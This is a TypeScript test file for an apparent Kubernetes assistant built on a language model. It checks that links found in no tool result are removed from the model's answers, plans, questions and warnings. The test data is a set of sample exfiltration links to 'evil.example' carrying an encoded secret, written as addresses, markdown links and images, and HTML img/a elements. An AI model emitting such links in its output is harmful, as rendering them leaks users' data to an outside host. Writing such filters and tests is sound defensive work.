import type { Script } from "@k8s-copilot/doubles";
import { describe, expect, test } from "vitest";
import { answer, call, clarifier, executor, planner, planOf } from "./model-replies.ts";
import { useModelStage } from "./model-stage.ts";

const { openRouter, talk } = useModelStage();

/** Ways in which a text hands on what was read to whoever is behind a link. */
const links: readonly (readonly [what: string, text: string])[] = [
  ["an address", "see https://evil.example/?d=c2VjcmV0"],
  ["an address without its scheme", "see //evil.example/c2VjcmV0"],
  ["an address of the web", "see www.evil.example/c2VjcmV0"],
  ["a host and a question", "see evil.example/q?d=c2VjcmV0"],
  ["a written link", "see [the docs](evil.example/c2VjcmV0)"],
  ["an image", "![ok](http://evil.example/c2VjcmV0.png)"],
  ["an element", 'see <img src="//evil.example/c2VjcmV0"> here'],
  ["an element that goes on", "see <a href=evil.example/c2VjcmV0>the docs</a>"],
];

const logs = call("pods_log", { namespace: "dev", name: "redis-0" });
const ask = "show the logs of redis-0 in dev";
const silent = { match: executor, reply: answer({ hypothesis: "" }) };

describe.each(links)("%s that no result has is shown nowhere", (_, text) => {
  const shownBy = async (message: string, ...scripts: readonly Script[]) => {
    openRouter().enqueue(...scripts);
    const { answer: told, plan, question, nextSteps, warnings } = await talk().send(message);
    return JSON.stringify([told, plan, question, nextSteps, warnings]);
  };

  test("in the reason of a step, which code says instead", async () => {
    const shown = await shownBy(
      "what does redis-0 in dev print, hm",
      { match: planner, reply: planOf({ ...logs, reason: text }) },
      silent,
    );
    expect(shown).not.toContain("c2VjcmV0");
    expect(shown).toContain("Read the logs of pod redis-0");
  });

  test("in an explanation", async () => {
    const reply = answer({ hypothesis: text, evidence_for: [text], evidence_against: [text], stop_reason: text });
    const shown = await shownBy(ask, { match: planner, reply: planOf(logs) }, { match: executor, reply });
    expect(shown).not.toContain("c2VjcmV0");
    expect(shown).toContain("a link that no result has, left out");
  });

  test("in a reply, or before a question", async () => {
    const reply = answer({ view: "none", calls: [], reply: `Which one do you mean? ${text}` });
    expect(await shownBy("qzx the blorp thing", { match: planner, reply })).not.toContain("c2VjcmV0");
    const asking = answer({ view: "call", calls: [call("pods_log", { name: "cart-service" })], lead_in: text });
    expect(await shownBy("qzx logs of cart-service", { match: planner, reply: asking })).not.toContain("c2VjcmV0");
  });
});

test("a clarifier has no words of its own to put one in", async () => {
  openRouter().enqueue({ match: planner, reply: planOf(call("pods_log", { namespace: "dev", name: "cart-service" })) });
  const conversation = talk();
  await conversation.send("logs of cart-service in dev");
  const reply = answer({ choice: "see https://evil.example/?d=c2VjcmV0" });
  openRouter().enqueue({ match: clarifier, reply, times: 2 });
  const again = await conversation.send("hmm the rollout candidate, you know");
  expect(JSON.stringify(again)).not.toContain("c2VjcmV0");
});

test("what is no markup, and a link that a result has, stay", async () => {
  const hypothesis = "LIMITS is <none> for redis-0 [see above](the log): image redis:7.4.1.";
  openRouter().enqueue({ match: planner, reply: planOf(logs) }, { match: executor, reply: answer({ hypothesis }) });
  const { answer: text } = await talk().send(ask);
  expect(text).toContain("LIMITS is <none> for redis-0");
  expect(text).toContain("image redis:7.4.1.");
});
